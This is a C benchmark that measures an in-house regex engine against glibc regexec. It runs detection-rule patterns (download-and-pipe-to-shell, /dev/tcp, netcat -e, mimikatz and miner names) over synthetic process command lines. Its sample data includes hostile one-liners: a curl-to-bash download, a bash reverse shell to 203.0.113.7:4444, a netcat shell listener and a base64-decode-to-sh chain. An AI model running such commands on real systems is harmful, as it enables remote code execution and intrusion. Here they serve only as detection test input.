/* SPDX-License-Identifier: MIT */
/*
 * bench/regex: searches per second of es_regex (common/regex.h) against glibc regexec, for
 * rule-like patterns over 1 KiB process command lines.
 *
 * 64 command lines of 1 KiB each (a long java class path, python and shell invocations,
 * container runtimes; 4 of them malicious, so most searches find nothing, as in the rules
 * engine) are searched by every pattern in turn, repeatedly, for about -t seconds per cell.
 * Columns: es_regex without groups (a yes/no condition), es_regex with every group (a rule
 * capturing a file name), glibc regexec with REG_NOSUB, glibc regexec with the groups.
 *
 * Usage: regex [-t SECONDS]   (default 0.3 per cell)
 * Figures only; it never fails on speed.  Exit 1 only if the two engines disagree on which
 * lines match.
 */
#include <getopt.h>
#include <regex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/array.h"
#include "common/regex.h"

#define LINES 64
#define LINE_LEN 1024

struct bench_pattern {
	const char *name, *pattern;
	unsigned flags;
};

static const struct bench_pattern patterns[] = {
	{ "download|sh", "(curl|wget)[^|;]*[|;][[:space:]]*(ba|da|z)?sh([[:space:]]|$)", 0 },
	{ "/dev/tcp", "/dev/(tcp|udp)/[0-9.]+/[0-9]+", 0 },
	{ "nc -e", "\\b(nc|ncat|netcat)\\b.*[[:space:]]-[a-z]*e[[:space:]]", 0 },
	{ "base64 -d", "base64[[:space:]]+(-d|--decode)", 0 },
	{ "curl -o FILE", "(curl|wget)[[:space:]].*-(o|O|-output)[[:space:]]+([^[:space:]]+)", 0 },
	{ "icase words", "mimikatz|xmrig|minerd|kworkerds", ES_REGEX_ICASE },
	{ "anchored exe", "^/(tmp|dev/shm|var/tmp)/[^ ]+", 0 },
	/* no useful literal ('.' is on every line): the DFA reads every byte */
	{ "ip:port", "[0-9]+\\.[0-9]+\\.[0-9]+\\.[0-9]+:[0-9]{2,5}", 0 },
};

static const char *const heads[] = {
	"/usr/lib/jvm/java-17-openjdk/bin/java -Xmx512m -Dlog4j2.formatMsgNoLookups=true -cp ",
	"/usr/bin/python3 /opt/app/worker.py --queue tasks --concurrency 4 --config ",
	"/bin/sh -c cd /var/lib/app && exec ./server --listen 0.0.0.0:8080 --data ",
	"/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f0c2a9b1e7d -address ",
	"/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock --log-opt ",
	"/usr/sbin/sshd -D -o AuthorizedKeysCommand=/usr/bin/get-keys -o LogLevel=INFO ",
};

static const char *const evil[] = {
	"/bin/sh -c curl -fsSL http://203.0.113.7/x.sh | bash",
	"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
	"/tmp/.x/nc -lvp 4444 -e /bin/sh",
	"/bin/sh -c echo ZWNobyBoaQo= | base64 --decode | sh ; wget -q -O /tmp/m http://h/m",
};

static void make_lines(char lines[LINES][LINE_LEN + 1])
{
	for (int i = 0; i < LINES; i++) {
		char *l = lines[i];
		size_t n;

		if (i % 16 == 15) {
			/* a malicious command, padded with arguments to 1 KiB */
			n = (size_t)snprintf(l, LINE_LEN + 1, "%s", evil[(i / 16) % 4]);
		} else {
			n = (size_t)snprintf(l, LINE_LEN + 1, "%s", heads[i % 6]);
		}
		while (n < LINE_LEN) {
			int w = snprintf(l + n, LINE_LEN + 1 - n, " /opt/app/lib/module-%d-%zu.jar",
					 i, n);

			if (w < 0)
				break;
			n += (size_t)w;
		}
		l[LINE_LEN] = '\0';
	}
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

enum engine { OURS_NOGROUPS, OURS_GROUPS, GLIBC_NOSUB, GLIBC_GROUPS, _ENGINE_MAX };

/* Searches per second; *ret_hits = lines matched in one pass. */
static double run(enum engine e, const struct es_regex *re, const regex_t *g_nosub,
		  const regex_t *g_sub, char lines[LINES][LINE_LEN + 1], double seconds,
		  unsigned *ret_hits)
{
	struct es_regex_match m[ES_REGEX_GROUPS_MAX];
	regmatch_t pm[ES_REGEX_GROUPS_MAX];
	unsigned long searches = 0;
	double t0 = now(), t;
	unsigned hits;

	do {
		hits = 0;
		for (int i = 0; i < LINES; i++) {
			int r = 0;

			switch (e) {
			case OURS_NOGROUPS:
				r = es_regex_search(re, lines[i], LINE_LEN, NULL, 0) == 1;
				break;
			case OURS_GROUPS:
				r = es_regex_search(re, lines[i], LINE_LEN, m,
						    ES_REGEX_GROUPS_MAX) == 1;
				break;
			case GLIBC_NOSUB:
				r = regexec(g_nosub, lines[i], 0, NULL, 0) == 0;
				break;
			case GLIBC_GROUPS:
				r = regexec(g_sub, lines[i], ES_REGEX_GROUPS_MAX, pm, 0) == 0;
				break;
			case _ENGINE_MAX:
				break;
			}
			hits += (unsigned)r;
		}
		searches += LINES;
		t = now() - t0;
	} while (t < seconds);
	*ret_hits = hits;
	return (double)searches / t;
}

int main(int argc, char **argv)
{
	static char lines[LINES][LINE_LEN + 1];
	double seconds = 0.3;
	int opt, status = 0;

	while ((opt = getopt(argc, argv, "t:")) != -1) {
		if (opt == 't')
			seconds = strtod(optarg, NULL);
		else
			return fprintf(stderr, "usage: %s [-t SECONDS]\n", argv[0]), 2;
	}
	make_lines(lines);
	printf("es_regex vs glibc regexec: searches/s over %d command lines of %d bytes "
	       "(%.2f s per cell)\n\n",
	       LINES, LINE_LEN, seconds);
	printf("%-14s %6s %12s %12s %12s %12s %9s\n", "pattern", "hits", "ours", "ours+groups",
	       "glibc NOSUB", "glibc+groups", "ours/glibc");
	for (size_t p = 0; p < ARRAY_SIZE(patterns); p++) {
		const struct bench_pattern *bp = &patterns[p];
		int gflags = REG_EXTENDED | (bp->flags & ES_REGEX_ICASE ? REG_ICASE : 0);
		struct es_regex_error err;
		struct es_regex *re = NULL;
		regex_t g_nosub, g_sub;
		double rate[_ENGINE_MAX];
		unsigned hits[_ENGINE_MAX];

		if (es_regex_compile(bp->pattern, strlen(bp->pattern), bp->flags, &re, &err) != 0 ||
		    regcomp(&g_nosub, bp->pattern, gflags | REG_NOSUB) != 0 ||
		    regcomp(&g_sub, bp->pattern, gflags) != 0) {
			fprintf(stderr, "%s: does not compile: %s\n", bp->name, err.message);
			return 1;
		}
		for (int e = 0; e < _ENGINE_MAX; e++)
			rate[e] =
				run((enum engine)e, re, &g_nosub, &g_sub, lines, seconds, &hits[e]);
		printf("%-14s %6u %12.0f %12.0f %12.0f %12.0f %8.2fx\n", bp->name, hits[0],
		       rate[OURS_NOGROUPS], rate[OURS_GROUPS], rate[GLIBC_NOSUB],
		       rate[GLIBC_GROUPS], rate[OURS_NOGROUPS] / rate[GLIBC_NOSUB]);
		for (int e = 1; e < _ENGINE_MAX; e++)
			if (hits[e] != hits[0]) {
				fprintf(stderr, "%s: engines disagree (%u vs %u lines)\n", bp->name,
					hits[0], hits[e]);
				status = 1;
			}
		es_regex_free(re);
		regfree(&g_nosub);
		regfree(&g_sub);
	}
	printf("\nours = es_regex_search(re, line, 1024, NULL, 0); ours+groups = with all %d "
	       "groups; glibc = regexec (REG_EXTENDED, REG_NOSUB or %d regmatch_t).\n",
	       ES_REGEX_GROUPS_MAX, ES_REGEX_GROUPS_MAX);
	return status;
}
